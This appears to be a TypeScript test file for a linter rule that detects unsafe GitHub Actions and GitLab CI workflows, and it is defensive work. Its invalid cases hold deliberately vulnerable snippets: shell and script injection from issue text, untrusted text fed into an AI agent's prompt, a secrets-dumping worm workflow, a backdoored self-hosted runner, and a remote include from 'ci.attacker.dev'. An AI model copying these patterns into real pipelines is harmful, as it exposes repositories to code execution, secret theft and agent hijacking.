import rule from '../../src/rules/no-unsafe-workflow.ts';
import { ruleTester } from '../tester.ts';

const filename = '.github/workflows/ci.yml';
const HASH = '08c6903cd8c0fde910a37f88322edcfb5dd907a8';
const job = (on: string, ...steps: readonly string[]): string => `on: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - ${step.replaceAll('\n', '\n        ')}\n`).join('')}`;
/** A job that has the token of a registry. */
const release = (...commands: readonly string[]): string => job('push', ...commands.map((command) => `run: ${command}`)).replace('    steps:', '    env:\n      NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n    steps:');
const claude = (on: string, ...inputs: readonly string[]): string => job(on, `uses: anthropics/claude-code-action@${HASH}\nwith:\n${inputs.map((input) => `  ${input}`).join('\n')}`);

/** A workflow whose input `level` is of that type, started by hand. */
const dispatch = (type: string, ...steps: readonly string[]): string => job('push', ...steps).replace('on: push', `on:\n  workflow_dispatch:\n    inputs:\n      Level:\n        type: ${type}\n        options: [a, b]`);

await ruleTester(rule, {
  valid: [
    ...['someone/thing', 'someone/*', 'someone/**', 'someone/thing@v1', 'someone/thing@*'].map((entry) => ({ filename, code: job('push', 'uses: someone/thing@v1'), options: { strict: true, allowedActions: [entry] } })),
    { filename, code: 'on: push\njobs:\n  a:\n    uses: other/ci/.github/workflows/a.yml@' + HASH + '\n    secrets: inherit\n', options: { strict: true, allowedActions: ['other/ci/.github/workflows/a.yml'] } },
    { filename, code: 'on: push\nenv:\n  NODE_OPTIONS: --import ./.github/register.mjs\n  LD_PRELOAD: ${{ steps.asan.outputs.library }}\n  GIT_CONFIG_KEY_0: url.https://github.com/.insteadOf\n  OPENAI_BASE_URL: https://gateway.example.com/v1\n' },
    { filename: '.gitlab-ci.yml', code: 'variables:\n  BASH_ENV: ci/functions.sh\n' },
    // Outputs that hold no text of others, or another text than theirs.
    { filename, code: `on: issues\njobs:\n  a:\n    outputs:\n      n: \${{ github.event.issue.number }}\n      l: \${{ contains(github.event.issue.title, 'x') }}\n    steps: []\n  b:\n    needs: a\n    steps:\n      - run: echo \${{ needs.a.outputs.n }} \${{ needs.a.outputs.l }} \${{ needs.c.outputs.t }}\n` },
    { filename, code: job('issues', 'id: x\nrun: echo "kind=$(./kind "$TITLE")" >> "$GITHUB_OUTPUT"\nenv:\n  TITLE: ${{ github.event.issue.title }}', 'run: echo ${{ steps.x.outputs.kind }} ${{ steps.y.outputs.title }}') },
    ...['choice', 'boolean', 'number', 'environment'].map((type) => ({ filename, code: dispatch(type, 'run: npm version ${{ inputs.level }} ${{ github.event.inputs.level }}', 'run: echo ${{ env.LEVEL }}\nenv:\n  LEVEL: ${{ inputs.level }}'), options: { strict: true } })),
    // Nothing is published: no input that says so; or with proof of identity, without a token; or without scripts of packages.
    { filename, code: job('push', 'run: npm ci', `uses: changesets/action@${HASH}\nwith:\n  version: npm run version\nenv:\n  NPM_TOKEN: \${{ secrets.NPM_TOKEN }}`), options: { strict: true, allowedActions: ['changesets/*'] } },
    { filename, code: job('push', 'run: npm ci', `uses: changesets/action@${HASH}\nwith:\n  publish: npm run release\nenv:\n  GITHUB_TOKEN: \${{ secrets.GITHUB_TOKEN }}`), options: { strict: true } },
    { filename, code: job('push', 'run: npm ci --ignore-scripts', `uses: changesets/action@${HASH}\nwith:\n  publish: npm run release\nenv:\n  NPM_TOKEN: \${{ secrets.NPM_TOKEN }}`), options: { strict: true } },
    { filename, code: job('push', 'run: npm ci', `uses: JS-DevTools/npm-publish@${HASH}\nwith:\n  access: public`), options: { strict: true } },
    { filename, code: job('push', 'run: npm ci', `uses: someone/thing@${HASH}\nwith:\n  publish: yes\n  token: \${{ secrets.THING_TOKEN }}`), options: { strict: true } },
    { filename, code: job('push', 'run: npm ci', `uses: changesets/action@${HASH}\nwith:\n  publish: npm run release\nenv:\n  NPM_TOKEN: \${{ secrets.NPM_TOKEN }}`) },
    { filename, code: 'on: push\njobs:\n  a:\n    uses: my-org/ci/.github/workflows/a.yml@v1\n    secrets: inherit\n', options: { strict: true, allowedActions: ['my-org/**'] } },
    { filename, code: 'on: push\njobs:\n  a:\n    uses: other/ci/.github/workflows/a.yml@v1\n    secrets: inherit\n' },
    { filename, code: `name: ci\non:\n  pull_request:\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${HASH}\n      - run: npm ci\n      - run: npm test\n        env:\n          API_KEY: \${{ secrets.API_KEY }}\n`, options: { strict: true } },
    // Through env and quoted, numbers, hashes, comparisons.
    { filename, code: job('issues', 'run: echo "$TITLE"\nenv:\n  TITLE: ${{ github.event.issue.title }}') },
    { filename, code: job('issues', 'run: gh issue view ${{ github.event.issue.number }} --json title'), options: { strict: true } },
    { filename, code: job('pull_request', 'run: echo ${{ github.event.pull_request.head.sha }} ${{ github.sha }}'), options: { strict: true } },
    { filename, code: job('issues', "if: contains(github.event.issue.title, 'bug')\nrun: echo bug"), options: { strict: true } },
    { filename, code: job('issues', "run: echo ${{ contains(github.event.issue.title, 'bug') }} ${{ github.event.comment.body == '/go' && 'a' || 'b' }}"), options: { strict: true } },
    { filename, code: job('issues', "run: echo '${{ github.event_name }}' ${{ github.repository }} ${{ matrix.os }} ${{ steps.x.outputs.result }}"), options: { strict: true } },
    { filename, code: job('issues', 'run: echo ${{ env.NAME }}\nenv:\n  NAME: ${{ github.repository }}'), options: { strict: true } },
    { filename, code: job('pull_request', 'uses: docker/build-push-action@v6\nwith:\n  tags: app:${{ github.head_ref }}') },
    { filename, code: claude('issues', 'prompt: Look at issue ${{ github.event.issue.number }} of ${{ github.repository }}', 'claude_args: --max-turns 5') },
    { filename, code: job('workflow_dispatch', 'run: echo ${{ inputs.name }}') },
    { filename, code: job('pull_request_target', `uses: actions/checkout@${HASH}`, 'run: npm ci') },
    { filename, code: job('pull_request', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.event.pull_request.head.sha }}`) },
    { filename, code: job('pull_request_target', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.head_ref }}\n  path: untrusted`) },
    { filename, code: job('push', 'uses: someone/thing@v1', 'uses: ./local', 'uses: docker://alpine:3') },
    { filename, code: job('push', 'uses: ./local', `uses: someone/thing@${HASH}`, `uses: docker://alpine@sha256:${'0'.repeat(64)}`, 'uses: my-org/thing@main'), options: { strict: true, allowedActions: ['my-org/**'] } },
    { filename, code: 'on: pull_request\njobs:\n  a:\n    runs-on: self-hosted\n    steps: []\n' },
    { filename, code: job('push', 'run: echo "BRANCH=$BRANCH" >> "$GITHUB_ENV"\nenv:\n  BRANCH: ${{ github.ref_name }}') },
    { filename: '.github/workflows/discussion.yml', code: job('discussion', 'run: echo hi') },
    // A token that publishes: released in a job of its own, with OIDC, without scripts of packages, or only tried.
    { filename, code: release('npm publish --provenance'), options: { strict: true } },
    { filename, code: release('npm ci --ignore-scripts', 'npm publish'), options: { strict: true } },
    { filename, code: release('pnpm install --frozen-lockfile', 'pnpm publish -r'), options: { strict: true } },
    { filename, code: release('npm ci', 'npm publish --dry-run'), options: { strict: true } },
    { filename, code: release('npm ci', 'npm run publish-docs', 'echo "npm publish"'), options: { strict: true } },
    { filename, code: release('npm ci', 'npm publish').replace('${{ secrets.NPM_TOKEN }}', '${{ steps.oidc.outputs.token }}'), options: { strict: true } },
    { filename, code: release('npm ci', 'npm publish').replace('NPM_TOKEN', 'GITHUB_TOKEN'), options: { strict: true } },
    { filename, code: job('push', 'run: npm ci', 'run: npm publish'), options: { strict: true } },
    { filename, code: release('npm ci', 'npm publish') },
    { filename, code: release('echo "run npm ci"', 'npm publish'), options: { strict: true } },
    // Not of the expected shape.
    { filename, code: 'on: [1, null]\njobs: [x]\npermissions: 5\n' },
    { filename, code: 'jobs:\n  a:\n    steps:\n      - run: ["${{ github.head_ref }}"]\n        with: x\n        env: 1\n' },
    { filename: 'action.yml', code: `name: x\nruns:\n  using: composite\n  steps:\n    - uses: actions/checkout@${HASH}\n    - run: npm ci\n      shell: bash\n`, options: { strict: true } },
    { filename: 'config/other.yml', code: job('issues', 'run: echo ${{ github.event.issue.title }}') },
    { filename: '.gitlab-ci.yml', code: 'include:\n  - local: /x.yml\ntest:\n  script:\n    - echo "$CI_MERGE_REQUEST_TITLE"\n', options: { strict: true } },
  ],
  invalid: [
    ...['someone', 'someone/thin', 'thing', 'someone/thing@v2'].map((entry) => ({ filename, code: job('push', 'uses: someone/thing@v1'), options: { strict: true, allowedActions: [entry] }, errors: [{ messageId: 'unpinned' as const }] })),
    // By way of the outputs of a job or a step.
    { filename, code: `on: issues\njobs:\n  a:\n    outputs:\n      t: \${{ github.event.issue.title }}\n    steps: []\n  b:\n    needs: a\n    steps:\n      - run: echo \${{ needs.a.outputs.t }}\n`, errors: [{ messageId: 'injection', line: 10 }] },
    { filename, code: job('issues', 'id: x\nrun: echo "title=$TITLE" >> "$GITHUB_OUTPUT"\nenv:\n  TITLE: ${{ github.event.issue.title }}', 'run: echo ${{ steps.x.outputs.title }}'), errors: [{ messageId: 'injection' }] },
    { filename, code: `on: issues\njobs:\n  a:\n    outputs:\n      t: \${{ steps.x.outputs.t }}\n    steps:\n      - id: x\n        env:\n          T: \${{ github.event.issue.body }}\n        run: echo "t=$T" >> $GITHUB_OUTPUT\n  b:\n    needs: a\n    steps:\n      - run: echo \${{ needs.a.outputs.t }}\n`, errors: [{ messageId: 'injection', line: 14 }] },
    // Behind many expressions.
    { filename, code: job('issues', `run: |\n  ${'echo ${{ github.run_id }}\n  '.repeat(600)}echo \${{ github.event.issue.title }}`), errors: [{ messageId: 'injection' }] },
    { filename, code: dispatch('string', 'run: npm version ${{ inputs.level }}'), options: { strict: true }, errors: [{ messageId: 'injection' }] },
    { filename, code: dispatch('choice', 'run: npm version ${{ inputs.other }}'), options: { strict: true }, errors: [{ messageId: 'injection' }] },
    // Another event gives the input as free text.
    { filename, code: dispatch('choice', 'run: npm version ${{ inputs.level }}').replace('jobs:', '  workflow_call:\n    inputs:\n      level:\n        type: string\njobs:'), options: { strict: true }, errors: [{ messageId: 'injection' }] },
    { filename, code: dispatch('choice', 'run: npm version ${{ github.event.client_payload.level }}'), options: { strict: true }, errors: [{ messageId: 'injection' }] },
    { filename, code: job('push', 'run: npm ci', `uses: changesets/action@${HASH}\nwith:\n  publish: npm run release\nenv:\n  NPM_TOKEN: \${{ secrets.NPM_TOKEN }}`), options: { strict: true }, errors: [{ messageId: 'publishToken', data: { name: 'NPM_TOKEN', what: 'install scripts of packages' } }] },
    { filename, code: job('push', 'run: npm ci', `uses: JS-DevTools/npm-publish@${HASH}\nwith:\n  token: \${{ secrets.NPM }}`), options: { strict: true }, errors: [{ messageId: 'publishToken', line: 9, column: 11, data: { name: 'token', what: 'install scripts of packages' } }] },
    { filename, code: job('push', 'run: npm install', `uses: cycjimmy/semantic-release-action@${HASH}\nenv:\n  NPM_TOKEN: \${{ secrets.NPM_TOKEN }}`), options: { strict: true }, errors: [{ messageId: 'publishToken' }] },
    { filename, code: 'on: push\njobs:\n  a:\n    uses: other/ci/.github/workflows/a.yml@v1\n    secrets: inherit\n', options: { strict: true }, errors: [{ messageId: 'allSecrets', line: 5, column: 5, endLine: 5, endColumn: 12, data: { value: 'other/ci/.github/workflows/a.yml@v1' } }] },
    { filename, code: release('npm ci', 'npm run build && npm publish --access public'), options: { strict: true }, errors: [{ messageId: 'publishToken', line: 6, column: 7, data: { name: 'NODE_AUTH_TOKEN', what: 'install scripts of packages' } }] },
    // Behind a wrapper, a variable, a condition; names of other tools that publish.
    { filename, code: release('sudo npm ci', 'cd pkg && CI=1 npm publish'), options: { strict: true }, errors: [{ messageId: 'publishToken' }] },
    { filename, code: release('HUSKY=0 npm install', 'if true; then npm publish; fi'), options: { strict: true }, errors: [{ messageId: 'publishToken' }] },
    { filename, code: release('yarn', 'yarn npm publish'), options: { strict: true }, errors: [{ messageId: 'publishToken' }] },
    { filename, code: release('npm install', 'npx changeset publish'), options: { strict: true }, errors: [{ messageId: 'publishToken' }] },
    { filename, code: job('push', 'run: npm ci', 'run: pnpm -r publish\nenv:\n  NPM_TOKEN: ${{ secrets.NPM }}'), options: { strict: true }, errors: [{ messageId: 'publishToken', data: { name: 'NPM_TOKEN', what: 'install scripts of packages' } }] },
    { filename, code: job('push', `uses: anthropics/claude-code-action@${HASH}\nwith:\n  prompt: write the notes`, 'run: npm publish').replace('jobs:', 'env:\n  NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\njobs:'), options: { strict: true }, errors: [{ messageId: 'publishToken', data: { name: 'NODE_AUTH_TOKEN', what: 'an agent' } }] },
    {
      filename,
      code: 'on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
      errors: [{ messageId: 'injection', line: 6, column: 20, endLine: 6, endColumn: 51, data: { context: 'github.event.issue.title', where: 'shell text' } }],
    },
    { filename, code: job('issues', "run: |\n  echo one\n  echo ${{ github['event']['issue'].body }}"), errors: [{ messageId: 'injection', line: 8, column: 16 }] },
    { filename, code: job('pull_request', "run: echo ${{ format('x {0}', github.head_ref) }} ${{ toJSON(github.event) }}"), errors: [{ messageId: 'injection' }, { messageId: 'injection' }] },
    { filename, code: job('pull_request', 'run: echo ${{ env.TITLE }}').replace('jobs:', 'env:\n  TITLE: ${{ github.event.pull_request.title }}\njobs:'), errors: [{ messageId: 'injection', data: { context: 'env.title', where: 'shell text' } }] },
    { filename, code: job('issue_comment', 'uses: actions/github-script@v7\nwith:\n  script: console.log(`${{ github.event.comment.body }}`)'), errors: [{ messageId: 'injection', data: { context: 'github.event.comment.body', where: 'code' } }] },
    { filename: 'action.yml', code: 'runs:\n  using: composite\n  steps:\n    - run: echo ${{ github.head_ref }}\n      shell: bash\n', errors: [{ messageId: 'injection' }] },
    { filename: 'action.yml', code: 'runs:\n  using: composite\n  steps:\n    - run: echo ${{ inputs.name }}\n      shell: bash\n', options: { strict: true }, errors: [{ messageId: 'injection' }] },
    { filename, code: claude('issues', 'prompt: |', '  Fix this:', '  ${{ github.event.issue.title }}', '  ${{ github.event.issue.body }}'), errors: [{ messageId: 'promptInjection', line: 10 }, { messageId: 'promptInjection', line: 11 }] },
    { filename, code: job('issues', 'id: ai\nuses: actions/ai-inference@v1\nwith:\n  prompt: hi', 'run: ${{ steps.ai.outputs.response }}'), errors: [{ messageId: 'modelOutput' }] },
    { filename, code: job('issues', 'run: echo "TITLE=$TITLE" >> $GITHUB_ENV\nenv:\n  TITLE: ${{ github.event.issue.title }}'), errors: [{ messageId: 'environmentFile', line: 6, column: 26, endColumn: 32 }] },
    { filename, code: job('pull_request_target', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.event.pull_request.head.sha }}`, 'run: npm ci'), errors: [{ messageId: 'untrustedCheckout', line: 8, column: 11, endColumn: 14 }] },
    { filename, code: job('[issue_comment]', 'run: gh pr checkout ${{ github.event.issue.number }}'), errors: [{ messageId: 'untrustedCheckout' }] },
    { filename, code: job('workflow_run', `uses: actions/checkout@${HASH}\nwith:\n  ref: \${{ github.event.workflow_run.head_branch }}`), errors: [{ messageId: 'untrustedCheckout' }] },
    { filename, code: claude('issues', 'allowed_non_write_users: "*"'), errors: [{ messageId: 'openAgent', data: { key: 'allowed_non_write_users', value: '*', who: 'anybody' } }] },
    { filename, code: claude('issues').replace('jobs:', 'permissions:\n  contents: write\n  id-token: write\njobs:'), errors: [{ messageId: 'agentJob' }] },
    { filename, code: 'on: push\npermissions: write-all\njobs: {}\n', errors: [{ messageId: 'allRights', line: 2, column: 1 }] },
    { filename: '.github/workflows/discussion.yaml', code: 'on: discussion\njobs:\n  a:\n    runs-on: self-hosted\n    steps:\n      - run: ${{ github.event.discussion.body }}\n', errors: [{ messageId: 'backdoor', line: 4, column: 5 }, { messageId: 'injection' }] },
    { filename: '.github/workflows/shai-hulud-workflow.yml', code: job('push', 'run: echo "$X"\nenv:\n  X: ${{ toJSON(secrets) }}'), errors: [{ messageId: 'knownWorm' }] },
    { filename, code: job('push', 'uses: someone/thing@v1'), options: { strict: true }, errors: [{ messageId: 'unpinned', data: { value: 'someone/thing@v1' } }] },
    { filename, code: 'on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps: []\n', options: { strict: true }, errors: [{ messageId: 'ownRunner' }] },
    { filename: '.gitlab-ci.yml', code: 'include:\n  - remote: http://ci.attacker.dev/x.yml\n', errors: [{ messageId: 'remoteInclude', line: 2, column: 5 }] },
  ],
});
